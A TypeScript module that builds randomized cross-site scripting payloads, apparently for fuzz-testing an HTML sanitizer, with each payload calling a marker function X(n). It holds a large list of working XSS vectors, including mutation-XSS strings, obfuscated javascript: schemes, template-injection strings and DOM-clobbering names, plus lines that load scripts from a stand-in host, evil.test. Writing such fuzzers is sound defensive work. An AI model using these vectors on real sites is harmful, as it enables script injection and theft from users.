/**
 * HTML that would run a script: `X(n)` for the instance of number n. Built of parts, and of vectors that are known to
 * have passed sanitizers (text that changes its meaning when it is parsed, written and parsed again).
 */
import type { Random } from './random.ts';

const events = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onmouseover', 'onbegin', 'onpointerenter', 'onanimationstart', 'onscroll', 'onbeforetoggle', 'onfocusin', 'onbeforematch', 'onwheel'];
const tags = ['img', 'svg', 'iframe', 'a', 'form', 'input', 'button', 'math', 'details', 'video', 'audio', 'marquee', 'object', 'embed', 'body', 'select', 'table', 'div', 'aside', 'figure', 'pre', 'code', 'animate', 'set', 'use', 'foreignObject', 'mglyph', 'dialog', 'area', 'style', 'link', 'meta', 'base', 'template', 'portal', 'frameset', 'x-element', 'image', 'isindex', 'keygen', 'noscript', 'textarea', 'title', 'xmp', 'plaintext', 'listing', 'search', 'nav', 'main', 'header', 'footer'];
const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java&#9;script:', 'java&NewLine;script:', '&#106;avascript:', '&#x6A;avascript&colon;', ' javascript:', '\u0001javascript:', 'javascript://%0a', 'vbscript:', 'data:text/html,<script>', 'data:text/html;base64,', 'data:image/svg+xml,<svg onload=', 'blob:', 'view-source:javascript:', 'feed:javascript:', '//evil.test/', 'https://evil.test/', '\\\\evil.test\\', 'jar:javascript:'];
/** Names and attributes that our own scripts and styles look for. */
const ours = ['id=UI-search', 'id=UI-main', 'id=UI-sidebar', 'id=UI-ready', 'class=tabs', 'class="tab" data-label="x"', 'data-search', 'data-nav="https://evil.test/nav.json"', 'data-base="//evil.test/"', 'data-document="//evil.test/"', 'data-copy', 'data-copy-page="javascript:X(0)"', 'data-keep-place', 'data-generated', 'data-language=ruby', 'data-sync-key=__proto__', 'class=sample data-collapse=1', 'class=contents', 'role=option', 'role=combobox', 'data-search-results', 'data-theme-button', 'name=documentElement', 'name=phyllite', 'id=phyllite', 'name=dataset', 'name=body', 'name=currentScript', 'class=parameters', 'data-nested', 'data-status=200', 'data-title="<img src=x onerror=X(0)>"', 'is=x-y', 'slot=x', 'part=x', 'popover', 'itemscope'];

/** One attribute, with or without quotes. */
function attribute(random: Random, name: string, value: string): string {
  const quote = random.pick(['"', '"', "'", '', '`']);
  return `${name}${random.pick(['=', '=', ' = ', '=\n'])}${quote}${quote === '"' ? value.replaceAll('"', '&quot;') : value}${quote}`;
}

function attributes(random: Random, number: number): string {
  const script = `X(${number})`;
  const made = [
    () => attribute(random, random.is(0.3) ? random.pick(events).toUpperCase() : random.pick(events), script) + random.pick(['', ' autofocus tabindex=1', ' src=x', ' open']),
    () => attribute(random, random.pick(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'cite', 'ping', 'to', 'values', 'from', 'srcset', 'longdesc', 'manifest']), random.pick(schemes) + script),
    () => attribute(random, 'srcdoc', `<script>${script}</script>`),
    () => attribute(random, 'style', random.pick([`background:url(javascript:${script})`, `behavior:url(x)`, `width:expression(${script})`, `position:fixed;inset:0;z-index:9999`, `animation:x 1s`])),
    () => attribute(random, 'http-equiv', random.pick(['refresh', 'Content-Security-Policy', 'set-cookie', 'x-ua-compatible'])) + attribute(random, ' content', random.pick([`0;url=javascript:${script}`, "script-src 'unsafe-inline'"])),
    () => random.pick(ours),
    () => attribute(random, random.pick(['title', 'alt', 'id', 'class', 'name', 'aria-label', 'lang']), random.pick(['"><script>', "'><script>", '</title><script>', '--><script>', ']]><script>']) + `${script}</script>`),
    () => attribute(random, 'attributeName', random.pick(['href', 'onload', 'xlink:href'])),
  ];
  return Array.from({ length: 1 + random.below(3) }, () => random.pick(made)()).join(random.pick([' ', '/', '\n', '\t', '\f', '']));
}

function tag(random: Random, number: number, depth: number): string {
  const name = random.is(0.2) ? random.pick(tags).toUpperCase() : random.pick(tags);
  const inner = depth > 2 || random.is(0.3) ? 'text' : payload(random, number, depth + 1);
  const start = `<${name}${random.pick([' ', '/', '\n'])}${attributes(random, number)}${random.pick(['>', '>', '/>', ' >', ''])}`;
  return random.pick([`${start}${inner}</${name}>`, start, `${start}${inner}`, `</${name}>${start}`, `${inner}${start}`]);
}

/** `N` stands for the number. */
const vectors = [
  '<script>X(N)</script>', '<SCRIPT >X(N)</SCRIPT >', '<script/x>X(N)</script>', '<scr<script>ipt>X(N)</scr</script>ipt>', '<script src="data:,X(N)"></script>', '<script type=module>X(N)</script>', '<svg><script>X(N)</script></svg>', '<svg><script href="data:,X(N)"/></svg>', '<script>\n\nX(N)\n\n</script>', '<<script>X(N)//<</script>', '<script\u0000>X(N)</script>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=X(N)&gt;">', '<math><mtext><table><mglyph><style><img src=x onerror=X(N)></style>', '<svg></p><style><a title="</style><img src=x onerror=X(N)>">', '<noscript><p title="</noscript><img src=x onerror=X(N)>">', '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=X(N) src>">', '<listing>&lt;img onerror=X(N) src&gt;</listing>', '<svg><desc><noscript></desc></svg><img src=x onerror=X(N)>', '<svg><annotation-xml encoding="text/html"><style><img src=x onerror=X(N)></style></annotation-xml></svg>', '<math><annotation-xml encoding="text/html"><style><img src=x onerror=X(N)></style></annotation-xml></math>', '<svg><title><style><img src=x onerror=X(N)></style></title></svg>', '<svg><foreignObject><p><style><!--</style><img src=x onerror=X(N)>--></foreignObject>', '<template><img src=x onerror=X(N)></template>', '<template shadowrootmode=open><img src=x onerror=X(N)></template>', '<select><template><img src=x onerror=X(N)></template></select>', '<xmp><p title="</xmp><img src=x onerror=X(N)>">', '<textarea><img title="</textarea><img src=x onerror=X(N)>"></textarea>', '<title><p title="</title><img src=x onerror=X(N)>">', '<iframe><p title="</iframe><img src=x onerror=X(N)>">', '<noembed><p title="</noembed><img src=x onerror=X(N)>">', '<noframes><p title="</noframes><script>X(N)</script>">', '<style><img title="</style><img src=x onerror=X(N)>"></style>', '<plaintext><img src=x onerror=X(N)>',
  '<!--><img src=x onerror=X(N)>-->', '<!---><img src=x onerror=X(N)>-->', '<!-- --!><img src=x onerror=X(N)>', '<![CDATA[<img src=x onerror=X(N)>]]>', '<svg><![CDATA[><img src=x onerror=X(N)>]]></svg>', '<?xml <img src=x onerror=X(N)> ?>', '<!doctype <img src=x onerror=X(N)>>', '</ <img src=x onerror=X(N)>>', '<a <img src=x onerror=X(N)>>',
  '&lt;script&gt;X(N)&lt;/script&gt;', '&amp;lt;img src=x onerror=X(N)&amp;gt;', '&#60;img src=x onerror=X(N)&#62;', '\\<img src=x onerror=X(N)>', '<img src="x` `<script>X(N)</script>"` `>', '<img src=x:x onerror\u000b=X(N)>', '<img/src/onerror=X(N)>', "<img src='x'onerror='X(N)'>", '<img src=x onerror=X(N)//', '<iframe srcdoc="&lt;script&gt;parent.X(N)&lt;/script&gt;">', '<object data="data:text/html,<script>parent.X(N)</script>"></object>', '<embed src="javascript:X(N)">', '<base href="https://evil.test/">', '<meta http-equiv=refresh content="0;url=javascript:X(N)">', '<link rel=stylesheet href="data:text/css,*{}">', '<link rel=modulepreload href="https://evil.test/x.js">', '<link rel=manifest href="https://evil.test/">', '<form action="javascript:X(N)"><button autofocus>x</button></form>', '<a href="javascript:X(N)">x</a>', '<a href="&#x6A;ava&#x0A;script:X(N)">x</a>', '<a xlink:href="javascript:X(N)">x</a>', '<svg><a xlink:href="javascript:X(N)"><text>x</text></a></svg>', '<svg><animate attributeName=href values="javascript:X(N)" /><a id=x>x</a></svg>', '<svg><set attributeName=onmouseover to=X(N)>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=X(N) /></svg>#x">', '<math href="javascript:X(N)">x</math>', '<details open ontoggle=X(N)>', '<input autofocus onfocus=X(N)>', '<body onload=X(N)>', '<html onmouseover=X(N)>', '<head><script>X(N)</script>', '</head><body><script>X(N)</script>', '</main></body></html><script>X(N)</script>', '</title><script>X(N)</script>', '</style><script>X(N)</script>', '</script><script>X(N)</script>', '"><script>X(N)</script>', "'><script>X(N)</script>", '"onmouseover="X(N)', "' autofocus onfocus='X(N)", '" onfocus=X(N) autofocus tabindex=0 x="', 'javascript:X(N)', '${X(N)}', '{{constructor.constructor("X(N)")()}}', '{X(N)}', '<%= `X(N)` %>', '<%= system("X") %>', '`${X(N)}`', '\u2028X(N)\u2028', '&#xFDD0;m0&#xFDD1;<b title="&#xFDD0;l0&#xFDD1;">', '\uFDD0m0\uFDD1', '--><script>X(N)</script><!--', '*/X(N)/*', ');X(N);(', '"-X(N)-"', "'-X(N)-'", '</textarea><script>X(N)</script>', '<slot name=x onslotchange=X(N)>', '<dialog open oncancel=X(N)>', '<button popovertarget=x>a</button><div popover id=x onbeforetoggle=X(N)>', '<video><source onerror=X(N)></video>', '<marquee onstart=X(N)>', '<a id=documentElement name=dataset>', '<form id=phyllite><input name=attributes><input name=parentNode></form>', '<img name=querySelector><img name=getElementById>', '<a id=UI-search><a id=UI-search name=value href="javascript:X(N)">', '<div id=UI-main><script>X(N)</script></div>', '<pre><code class="language-html"><script>X(N)</script></code></pre>', '<table><tr><td><script>X(N)</script></td></tr></table>', '<table><script>X(N)</script><tr><style></table><img src=x onerror=X(N)>', '<p><svg> `code` <style> <img src=x onerror=X(N)>', '<a href=x>a<a href=y onclick=X(N)>b</a></a>', '<font color="expression(X(N))">x</font>', '<div style="background:url(\'javascript:X(N)\')">x</div>', '<span onclick=X(N) class="lang-specific ruby">x</span>', '<aside class="notice" onclick=X(N)>x</aside>', '<figure data-language="x" onclick=X(N)><pre>x</pre></figure>', '<h2 id="x" onclick=X(N)>x</h2>', '<h1 id="__proto__">x</h1>', '<h2 id="constructor"><img src=x onerror=X(N)></h2>',
];

/** @param depth how deep it lies in others */
export function payload(random: Random, number: number, depth = 0): string {
  if (random.is(0.45)) return random.pick(vectors).replaceAll('X(N)', `X(${number})`);
  if (depth === 0 && random.is(0.25)) return payload(random, number, 1) + random.pick(['', ' ', '\n']) + payload(random, number, 1);
  return tag(random, number, depth);
}

/** An address that means harm. */
export const address = (random: Random, number: number): string => random.pick(schemes) + `X(${number})`;

export { vectors };
